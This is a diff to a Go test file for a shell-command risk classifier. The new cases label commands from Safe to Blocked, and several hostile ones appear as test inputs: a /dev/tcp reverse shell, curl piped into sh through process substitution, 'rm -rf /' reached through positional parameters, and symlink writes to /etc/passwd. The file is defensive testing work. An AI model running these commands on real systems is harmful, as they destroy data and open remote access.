@@ -51,6 +51,10 @@ func TestLoopVariables(t *testing.T) {
 		{"for f; do cat $f; done", Warning},
 		{"for f in a; do :; done; cat $f", Warning},
 		{"for i in 1 2; do for f in a; do cat $f$i; done; done", Safe},
+		{"for s in status push; do git $s; done", Dangerous},
+		{"for s in status log; do git $s; done", Safe},
+		{"for o in -la -rf; do rm $o /; done", Blocked},
+		{"for a in 1 2 3 4 5; do for b in 1 2 3 4 5; do echo $a$b $a $b; done; done", Safe},
 	})
 }
 
@@ -126,6 +130,39 @@ func TestCodeInValues(t *testing.T) {
 	})
 }
 
+// TestIndirection checks links, positional parameters, the current
+// directory and process substitutions that read a command's output.
+func TestIndirection(t *testing.T) {
+	checkLevels(t, []levelCase{
+		{"ln -s /etc/passwd p && echo x >> p", Blocked},
+		{"ln -sf ~/.bashrc rc; echo 'x' > rc", Blocked},
+		{"ln -s /etc e; cp x e/hosts", Blocked},
+		{"ln /etc/hosts h && sed -i 's/a/b/' h", Blocked},
+		{"ln -s ../shared/a.txt a.txt && cat a.txt", Warning},
+		{"sh -c 'rm -rf \"$1\"' _ /", Blocked},
+		{"bash -c 'rm -rf \"$1\"' _ build", Dangerous},
+		{"sh -c 'cat \"$1\"' sh README.md", Safe},
+		{"sh -c 'shift; rm -rf \"$1\"' _ a /", Dangerous},
+		{"bash -c 'exec \"$@\"' _ rm -rf /", Blocked},
+		{"sh -c '\"$@\"' _ ls -la", Safe},
+		{"sh -c '$@' _ sudo ls", Blocked},
+		{"for f in a; do bash -c 'cat $f'; done", Warning},
+		{"rm -rf $(pwd)", Blocked},
+		{"rm -rf \"$PWD\"", Blocked},
+		{"docker run -v $(pwd):/app node", Warning},
+		{"docker run -v \"$PWD\":/src img", Warning},
+		{"cd /; docker run -v $PWD:/h img", Dangerous},
+		{"curl x | tee >(sh) > /dev/null", Blocked},
+		{"ls | tee >(bash)", Dangerous},
+		{"diff <(ls a) <(ls b)", Safe},
+		{"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", Blocked},
+		{"cat < /dev/tcp/example.com/80", Dangerous},
+		{"man -P 'rm -rf ~' ls", Blocked},
+		{"go test -exec 'sudo -E' ./...", Blocked},
+		{"go test -exec xprog ./...", Warning},
+	})
+}
+
 func TestScanSed(t *testing.T) {
 	tests := []struct {
 		script string
@@ -166,4 +203,29 @@ func TestScanSed(t *testing.T) {
 			}
 		})
 	}
+}
+
+// TestDynamicOptions checks options whose name is literal and whose value
+// is not known, and values that only sometimes change what runs.
+func TestDynamicOptions(t *testing.T) {
+	checkLevels(t, []levelCase{
+		{"git log --author=\"$(git config user.email)\" --oneline", Safe},
+		{"git log --output=\"$OUT\"", Dangerous},
+		{"git log $RANGE", Warning},
+		{"sort -o\"$F\" x", Dangerous},
+		{"curl --output=\"$F\" https://x", Dangerous},
+		{"export GOFLAGS=-mod=mod", Safe},
+		{"GOFLAGS='-mod=vendor -trimpath' go build ./...", Safe},
+		{"GOFLAGS=-toolexec=/tmp/x go build ./...", Dangerous},
+		{"GOFLAGS=$FLAGS go test ./...", Dangerous},
+		{"go tool cover -func=cover.out", Safe},
+		{"go tool cover -html=cover.out", Warning},
+		{"go tool pprof -http=:8080 cpu.out", Warning},
+		{"go tool compile x.go", Warning},
+		{"openssl rand -hex 16", Safe},
+		{"openssl x509 -in cert.crt -noout -text", Safe},
+		{"openssl x509 -in cert.pem -noout -text", Warning},
+		{"openssl req -new -key k.pem -out /etc/ssl/x.csr", Blocked},
+		{"openssl s_client -connect example.com:443", Warning},
+	})
 }
